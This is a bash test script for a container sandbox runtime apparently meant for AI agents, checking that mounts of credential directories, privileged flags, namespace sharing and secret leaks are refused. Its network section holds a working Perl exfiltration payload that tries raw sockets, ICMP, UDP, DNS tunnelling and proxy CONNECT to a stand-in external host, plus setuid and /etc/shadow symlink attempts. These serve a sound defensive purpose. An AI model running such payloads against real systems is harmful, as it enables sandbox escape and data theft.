#!/usr/bin/env bash
# docker.sh - what an image, a process or an engine's flag might try, from containers started by
# dockerd with the default profile: every row asserts that it did not happen, and that nothing is left.
set -u
here=$(cd "$(dirname "$0")/.." && pwd)
. "$here/lib/tap.sh"
. "$here/lib/docker.sh"
. "$here/lib/image.sh"
agentrt=$(readlink -f "${AGENTRT:-$(command -v agentrt)}")
[ -x "$agentrt" ] || { echo "1..0 # agentrt is not installed"; exit 1; }
export HOME=/root

work=$(mktemp -d /tmp/agentrt-escape.XXXXXX)
tag=${work##*.}
home=/home/agentrt-$tag
cleanup() {
	[ -z "${cap_pid:-}" ] || kill "$cap_pid" 2>/dev/null
	[ -z "${srv_pid:-}" ] || kill "$srv_pid" 2>/dev/null
	[ -z "${abs_pid:-}" ] || kill "$abs_pid" 2>/dev/null
	umount -l "$work/bindssh" 2>/dev/null
	dk_stop
	userdel "agentrt-$tag" 2>/dev/null
	rm -rf "$work" "$home"
}
trap cleanup EXIT
debian=$(debian_tar) || { echo "Bail out! no Debian image"; exit 1; }
dk_start "agent=$agentrt" || { echo "Bail out! no dockerd"; exit 1; }
dk import "$debian" deb >/dev/null
dk import --change 'ENV IMAGE_API_KEY=MARKER-image-env' --change "ENV PLAIN=1" "$debian" debsecret >/dev/null
run() { timeout 60 docker -H "unix://$DK_SOCK" run --rm "$@"; }
uppers_now() { find /var/lib/agentrt -mindepth 1 -maxdepth 1 2>/dev/null | grep -cE '/[0-9a-f]{64}'; }
run deb true # warm: docker's own leftovers exist from now on
uppers0=$(uppers_now)

refused() { # NAME RULE-REGEX FLAG...: create is refused, by that rule, with how to allow it
	local name=$1 rule=$2 out status
	shift 2
	out=$(run "$@" deb true 2>&1)
	status=$?
	if [ $status -eq 0 ]; then tap_result "$name" 1 "it ran"; else like "$name" "$out" "refused by rule ($rule)"; fi
}

# --- mounts of the host: by name, through a symbolic link, a bind mount, a parent
useradd -m -d "$home" "agentrt-$tag"
mkdir -p "$home/.ssh" "$home/.aws" "$home/work" /root/.ssh
echo PRIVATE >"$home/.ssh/id_rsa"
ln -s "$home/.ssh" "$work/link"
mkdir "$work/bindssh" && mount --bind "$home/.ssh" "$work/bindssh"
creds='mount\.credentials'
any='mount\.[a-z]+'
refused "-v ~/.ssh is refused" "$creds" -v "$home/.ssh:/k"
refused "-v ~/.aws is refused" "$creds" -v "$home/.aws:/k:ro"
refused "-v of one file in ~/.ssh is refused" "$creds" -v "$home/.ssh/id_rsa:/k:ro"
refused "-v of /root/.ssh is refused" "$any" -v /root/.ssh:/k
refused "a symbolic link to ~/.ssh is refused" "$creds" -v "$work/link:/k"
refused "a bind mount of ~/.ssh elsewhere is refused" "$creds" -v "$work/bindssh:/k"
unlike "the parent of a bind mount of ~/.ssh shows nothing of it" "$(run -v "$work:/k" deb sh -c 'ls -R /k' 2>&1)" id_rsa
refused "-v \$HOME is refused" "$any" -v "$home:/h"
refused "-v /home is refused" "$any" -v /home:/h
for tree in / /etc /root /tmp /run /proc /sys /dev /boot /usr /var/lib /var/lib/docker /etc/agentrt; do
	[ -e "$tree" ] || continue
	refused "-v $tree is refused" "$any" -v "$tree:/h:ro"
done
refused "the engine's socket is refused" 'mount\.(socket|engine|tree)' -v "$DK_SOCK:/var/run/docker.sock"
ln -s "$DK_SOCK" "$work/socklink"
refused "a symbolic link to the engine's socket is refused" "$any" -v "$work/socklink:/s"
refused "the directory of the engine's socket is refused" "$any" -v "$DK_DIR:/s"
refused "the engine's data root is refused" "$any" -v "$DK_DIR/data:/s:ro"
other=$(dk run -d --name other deb sleep 300)
refused "another container's hosts file is refused" "$any" -v "$DK_DIR/data/containers/$other/hosts:/etc/hosts"
refused "another container's directory is refused" "$any" -v "$DK_DIR/data/containers/$other:/c:ro"
refused "another container's root is refused" "$any" -v "$(dk inspect -f '{{.GraphDriver.Data.MergedDir}}' other):/c:ro"
refused "--volumes of a block device is refused" "$any" -v /dev/vda:/disk
umount "$work/bindssh"
volume() { dk volume create --opt type=none --opt o=bind --opt "device=$2" "$1" >/dev/null; }
volume v-ssh "$home/.ssh"
volume v-root /
volume v-mine "$home/work"
refused "a volume that is a bind mount of ~/.ssh is refused" "$creds" -v v-ssh:/k
refused "a volume that is a bind mount of the host's root is refused" "$any" -v v-root:/k
refused "a volume that is a bind mount of a project is refused" "$any" -v v-mine:/k
out=$(run -v plain:/k deb sh -c 'echo kept >/k/f; cat /k/f' 2>&1)
like "a named volume of the engine's own is not" "$out" '^kept$'
dk volume create --opt type=tmpfs --opt device=tmpfs v-tmpfs >/dev/null
out=$(run -v v-tmpfs:/k deb sh -c 'echo kept >/k/f; cat /k/f' 2>&1)
if grep -q 'on a file system (tmpfs) that this kernel cannot idmap' <<<"$out"; then
	skip "nor is one that is a tmpfs" "before Linux 6.3 a tmpfs has no id-mapped mounts: refused by name"
else
	like "nor is one that is a tmpfs" "$out" '^kept$'
fi
dk volume rm v-ssh v-root v-mine v-tmpfs plain >/dev/null

# --- flags that ask for the host
host_pid=$(cat "$DK_DIR/pid") # dockerd's
. "$here/escape/acts.sh" || { echo "Bail out! no acts"; exit 1; }
probe='
	grep -E "^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):" /proc/self/status | tr -s "\t " " "
	echo "uid_map $(tr -s " " </proc/self/uid_map)"
	grep -E "^Max (nice|realtime) priority" /proc/self/limits | tr -s " "
	for n in pid ipc uts net mnt cgroup user; do echo "ns $n $(readlink /proc/self/ns/$n)"; done
	ls /dev | tr "\n" " "; echo
	ls -d /sys/class/net/* | tr "\n" " "; echo'
privileged=$(run "${acts_flags[@]}" deb sh -c "$probe" 2>&1)
plain=$(run deb sh -c "$probe" 2>&1)
is "the hard flags together change no capability" "$(grep ^Cap <<<"$privileged")" "$(grep ^Cap <<<"$plain")"
unlike "no capability over the kernel is left" "$(grep CapBnd <<<"$privileged")" 'ffffff'
like "no_new_privs holds" "$privileged" '^NoNewPrivs: 1'
like "a seccomp filter holds" "$privileged" '^Seccomp: 2'
is "--ulimit gives no right over others' time" "$(grep '^Max' <<<"$privileged")" "$(printf 'Max nice priority 0 0 \nMax realtime priority 0 0 ')"
like "uid 0 is not the host's" "$(grep uid_map <<<"$privileged")" '^uid_map +0 [1-9][0-9]{4,}'
for n in pid ipc uts net mnt cgroup user; do
	unlike "--$n host does not give the host's $n namespace" "$privileged" "^ns $n $(readlink "/proc/self/ns/$n" | sed 's/[][]/\\&/g')\$"
done
unlike "--device gives no device" "$privileged" '(^| )(mem|fuse|kmsg|vda)( |$)'
like "nothing but lo is in its network" "$(tail -n 1 <<<"$privileged")" '^/sys/class/net/lo $'
out=$(run --network "container:other" deb sh -c 'readlink /proc/self/ns/net; ls /sys/class/net' 2>&1)
unlike "--network container:X does not share X's network" "$out" "$(readlink "/proc/$(dk inspect -f '{{.State.Pid}}' other)/ns/net" | sed 's/[][]/\\&/g')"
out=$(run --pid "container:other" deb sh -c 'ps ax' 2>&1)
unlike "--pid container:X does not show X's processes" "$out" 'sleep 300'

# --- acts of root inside, with the flags that an engine's user gives by default and with the hardest
acts_run "default flags" deb
acts_run "hardest flags" deb "${acts_flags[@]}"
acts_on_host deb

# --- host root's files, even where a mount shows them
mkdir -p "$work/shown" && echo hostroot >"$work/shown/private" && chmod 600 "$work/shown/private"
echo pub >"$work/shown/public"
out=$(run -v "$work/shown:/s" deb sh -c 'cat /s/private; echo x >/s/public; rm -f /s/public; chmod 777 /s/private; echo end' 2>&1)
unlike "a file that only host root may read is unreadable" "$out" hostroot
is "a file of host root is not changed" "$(cat "$work/shown/public")" pub
is "its mode is not changed" "$(stat -c %a "$work/shown/private")" 600
mkdir "$work/mine" && chown 4321:4321 "$work/mine"
run -v "$work/mine:/m" deb sh -c 'cp /bin/true /m/suid && chmod 4755 /m/suid; chown 0:0 /m/suid; ln -s /etc/shadow /m/link' >/dev/null 2>&1
is "nothing that host root owns appears in a project" "$(find "$work/mine" -uid 0)" ""

# --- secrets in the environment
dk run -d --name env -e GITHUB_TOKEN=MARKER-token-name -e "HARMLESS=ghp_MARKERvalue0123456789abcdefghijklmnopqrs" debsecret sleep 300 >/dev/null
env_all=$(dk exec -e OPENAI_API_KEY=MARKER-exec-env env sh -c 'env; cat /proc/*/environ | tr "\0" "\n"' 2>&1)
unlike "no secret of -e, of the image or of exec is in any environment" "$env_all" MARKER
like "an ordinary variable of the image is" "$env_all" '^PLAIN=1'
state=$(find "$DK_DIR/exec/runtime-runc/moby" -type f -exec grep -la MARKER {} + 2>/dev/null)
is "no state file holds a secret" "$state" ""
logs=$(find "$DK_DIR/exec" -path '*containerd*' -name 'log.json' -exec grep -la MARKER {} + 2>/dev/null)
is "no log of the runtime holds a secret" "$logs" ""
dk rm -f env >/dev/null

# --- no packet leaves A
dk run -d --name net deb sleep 300 >/dev/null
e_ns=$(dk inspect -f '{{.NetworkSettings.SandboxKey}}' net)
pcap=$work/pcap
mkdir "$pcap"
nsenter "--net=$e_ns" timeout 60 tcpdump -i any -n -U --immediate-mode -w "$pcap/e" 'not arp and not icmp6 and not ip6 multicast' >/dev/null 2>&1 &
cap_e=$!
timeout 60 tcpdump -i docker0 -n -U --immediate-mode -w "$pcap/host" 'not arp and not icmp6 and not ip6 multicast' >/dev/null 2>&1 &
cap_pid=$!
perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); setsockopt(S, SOL_SOCKET, SO_REUSEADDR, 1); bind(S, pack_sockaddr_in(4567, INADDR_ANY)) or die; listen(S, 5); while (accept(C, S)) { print C "HOST-SERVICE\n"; close C }' &
srv_pid=$!
perl -e 'use Socket; socket(S, PF_UNIX, SOCK_STREAM, 0); bind(S, pack("S a*", 1, "\0agentrt-abstract-'"$tag"'")) or die; listen(S, 5); while (accept(C, S)) { print C "ABSTRACT\n"; close C }' &
abs_pid=$!
sleep 1
gw=172.29.77.1
hostip=$(ip -4 -o addr show scope global | grep -v docker0 | awk '{sub("/.*", "", $4); print $4; exit}')
exfil='
	use Socket;
	for my $p (1, 17, 58, 255) { socket(R, PF_INET, SOCK_RAW, $p) and send(R, "MARKER" x 4, 0, pack_sockaddr_in(0, inet_aton("203.0.113.9"))); }
	socket(U, PF_INET, SOCK_DGRAM, 17); send(U, "MARKER", 0, pack_sockaddr_in(53, inet_aton($_))) for ("203.0.113.9", "'"$gw"'", "8.8.8.8");
	socket(V, 10, SOCK_DGRAM, 17); send(V, "MARKER", 0, pack("S n N a16 N", 10, 53, 0, "\x20\x01\x0d\xb8" . "\0" x 11 . "\1", 0));
	socket(I, PF_INET, SOCK_DGRAM, 1) and send(I, pack("C2 n3", 8, 0, 0, 1, 1) . "MARKER" x 9, 0, pack_sockaddr_in(0, inet_aton($_))) for ("203.0.113.9", "'"$gw"'");
	for my $p (33, 132, 136) { socket(X, PF_INET, $p == 132 ? SOCK_STREAM : $p == 33 ? 6 : SOCK_DGRAM, $p) or next; alarm 2; connect(X, pack_sockaddr_in(443, inet_aton("203.0.113.9"))) and send(X, "MARKER", 0); alarm 0; }
	socket(K, 40, SOCK_STREAM, 0) and print "VSOCK\n";
	socket(P, 17, 3, 768) and syscall(44, fileno(P), "MARKER" x 20, 120, 0, pack("S n i S C C a8", 17, 0x0800, 1, 0, 0, 6, "\xff" x 6), 20);
	socket(D, PF_INET, SOCK_DGRAM, 17); connect(D, pack_sockaddr_in(53, inet_aton("8.8.8.8"))); send(D, pack("n6", 7, 256, 1, 0, 0, 0) . pack("C/a* C/a* C/a* x n2", "MARKER" . "x" x 50, "tunnel", "example", 16, 1), 0);
	alarm 2; my $answer = ""; recv(D, $answer, 512, 0); printf "DNS %d\n", unpack("x2 n", $answer) & 15; alarm 0;
	socket(Q, PF_INET, SOCK_DGRAM, 17); connect(Q, pack_sockaddr_in(443, inet_aton("203.0.113.9"))); send(Q, "MARKER" x 200, 0);
	for my $port (22, 25, 443, 5432) { socket(T, PF_INET, SOCK_STREAM, 0); alarm 2; connect(T, pack_sockaddr_in($port, inet_aton("203.0.113.9"))) and print "CONNECTED $port\n"; print $! == 111 ? "REFUSED\n" : "OTHER $!\n"; alarm 0; }
	for my $proto (0, 262) { for ("203.0.113.9", "'"$gw"'", "'"$hostip"'", "127.0.0.1") { socket(T, PF_INET, SOCK_STREAM, $proto) or next; alarm 2; connect(T, pack_sockaddr_in(4567, inet_aton($_))) and print "CONNECTED $_\n"; } }
	socket(A, PF_UNIX, SOCK_STREAM, 0); connect(A, pack("S a*", 1, "\0agentrt-abstract-'"$tag"'")) and print "ABSTRACT\n";
	print "end\n";'
out=$(dk exec net perl -e "$exfil" 2>&1)
like "the exfiltration script ran to its end" "$out" '^end$'
unlike "no port of the host, of the gateway or of anyone answered" "$out" CONNECTED
like "a name that would carry data out does not exist, says the proxy itself" "$out" '^DNS 3$'
is "any port of any address is refused at once" "$(grep -c '^REFUSED' <<<"$out")" 4
unlike "no abstract socket of the host answered" "$out" ABSTRACT
unlike "no socket to the machine below can be made" "$out" VSOCK
for target in "$gw:4567" "$hostip:4567" "127.0.0.1:4567" "localhost:4567" "203.0.113.9:80"; do
	out=$(dk exec net perl -e 'use Socket; socket(T, PF_INET, SOCK_STREAM, 0); connect(T, pack_sockaddr_in(3128, inet_aton("127.0.0.1"))) or die "no proxy"; syswrite T, "CONNECT '"$target"' HTTP/1.1\r\nHost: '"$target"'\r\n\r\n"; sysread T, my $b, 4096; print $b' 2>&1)
	like "the proxy refuses $target" "$out" '^HTTP/1\.[01] 403'
done
sleep 0.5
kill "$cap_e" "$cap_pid" "$srv_pid" "$abs_pid" 2>/dev/null
wait "$cap_e" "$cap_pid" "$srv_pid" "$abs_pid" 2>/dev/null
cap_pid='' srv_pid='' abs_pid=''
is "no packet was seen in E" "$(tcpdump -n -r "$pcap/e" 2>/dev/null | head -n 3)" ""
is "no packet was seen on the host's bridge" "$(tcpdump -n -r "$pcap/host" 2>/dev/null | head -n 3)" ""
proxy=$(pgrep -f '^agentrt-egress' | while read -r p; do [ "$(readlink "/proc/$p/ns/net")" = "$(stat -Lc 'net:[%i]' "$e_ns")" ] && echo "$p"; done)
like "the proxy is there" "$proxy" '^[0-9]+$'
unlike "the proxy is not root" "$(awk '/^Uid/{print $2}' "/proc/$proxy/status")" '^0$'
is "the proxy has no capability" "$(awk '/^Cap(Prm|Eff|Bnd|Amb|Inh)/{print $2}' "/proc/$proxy/status" | sort -u)" 0000000000000000
log=/proc/$proxy/fd/6 # EGRESS_FD_LOG
is "what was tried is in the decision log: names, datagrams, ports" \
	"$(jq -r 'select(.verdict == "deny") | if .via == "dns" then "dns" elif .via == "udp" then "udp \(.port)" elif .via == "transparent" then "tcp \(.port)" else empty end' "$log" | grep -xE 'dns|udp (53|443)|tcp (22|25|443|5432)' | sort -u | tr '\n' ' ')" \
	"dns tcp 22 tcp 25 tcp 443 tcp 5432 udp 443 udp 53 "
sockets=$(printf 'AF_%s\n' 'INET SOCK_DCCP IPPROTO_DCCP' 'INET SOCK_DGRAM IPPROTO_ICMP' 'INET SOCK_DGRAM IPPROTO_UDPLITE' \
	'INET SOCK_RAW IPPROTO_ICMP' 'INET SOCK_RAW IPPROTO_ICMPV6' 'INET SOCK_RAW IPPROTO_RAW' 'INET SOCK_RAW IPPROTO_UDP' \
	'INET SOCK_STREAM IPPROTO_MPTCP' 'INET SOCK_STREAM IPPROTO_SCTP' 'PACKET SOCK_RAW 768' 'VSOCK SOCK_STREAM 0')
is "and every socket that could not even be made: raw, ICMP, packet, vsock, MPTCP ..." \
	"$(jq -r 'select(.via == "socket" and .rule == "seccomp.socket") | .name' "$log" | LC_ALL=C sort -u)" "$(LC_ALL=C sort <<<"$sockets")"
unlike "and nothing of what was sent" "$(cat "$log")" MARKERMARKER
kill -9 "$proxy"
sleep 0.3
out=$(dk exec net perl -e 'use Socket; socket(T, PF_INET, SOCK_STREAM, 0); connect(T, pack_sockaddr_in(3128, inet_aton("127.0.0.1"))) and print "PROXY"' 2>&1)
unlike "when the proxy is killed there is no way out" "$out" PROXY
dk rm -f net >/dev/null

# --- writes vanish
layer=$(dk inspect -f '{{.GraphDriver.Data.LowerDir}}' other | cut -d: -f2)
sum0=$(cd "$layer" && find . -xdev -printf '%p %s %m %U %T@\n' | sort | sha256sum)
dk run --name writer deb sh -c 'echo x >/etc/passwd; rm -rf /usr/share/doc; chmod 777 /etc' >/dev/null 2>&1
is "the image's layers are unchanged" "$(cd "$layer" && find . -xdev -printf '%p %s %m %U %T@\n' | sort | sha256sum)" "$sum0"
is "the engine's own upper got none of it" "$(find "$(dk inspect -f '{{.GraphDriver.Data.UpperDir}}' writer)" -name passwd -size -3c)" ""
is "the next container sees the image as it was" "$(run deb sh -c 'wc -l </etc/passwd')" "$(run deb sh -c 'wc -l </etc/passwd')"
dk rm -f writer other >/dev/null

sleep 1
is "nothing is left: mounts, cgroups, state, processes" "$(dk_left)" ""
is "no upper directory is left" "$(uppers_now)" "$uppers0"
tap_done
